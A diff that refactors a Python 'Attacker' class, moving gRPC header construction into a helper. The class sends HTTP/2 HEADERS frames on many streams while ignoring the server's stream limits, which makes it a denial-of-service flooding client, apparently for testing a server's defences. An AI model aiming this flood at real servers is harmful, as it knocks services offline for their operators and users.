@@ -42,6 +42,13 @@ def literal(name: str, value: str) -> bytes:
     return b"\0" + bytes([len(name)]) + name.encode() + bytes([len(value)]) + value.encode()
 
 
+def headers_of(path: str) -> bytes:
+    """Of a call without a token."""
+    pairs = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "x"}
+    pairs |= {"content-type": "application/grpc", "te": "trailers"}
+    return b"".join(literal(*pair) for pair in pairs.items())
+
+
 class Attacker:
     """A connection with calls of which nothing comes but their headers; it heeds no limit of the other side."""
 
@@ -52,9 +59,7 @@ class Attacker:
         self.cut = False
         self._reader = threading.Thread(target=self._read, daemon=True)
         self._reader.start()
-        pairs = {":method": "POST", ":scheme": "http", ":path": path, ":authority": "x"}
-        pairs |= {"content-type": "application/grpc", "te": "trailers"}
-        headers = b"".join(literal(*pair) for pair in pairs.items())
+        headers = headers_of(path)
         self._socket.sendall(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0, b""))
         with suppress(OSError):
             self._socket.sendall(b"".join(frame(HEADERS, 4, 2 * n + 1, headers) for n in range(calls)))
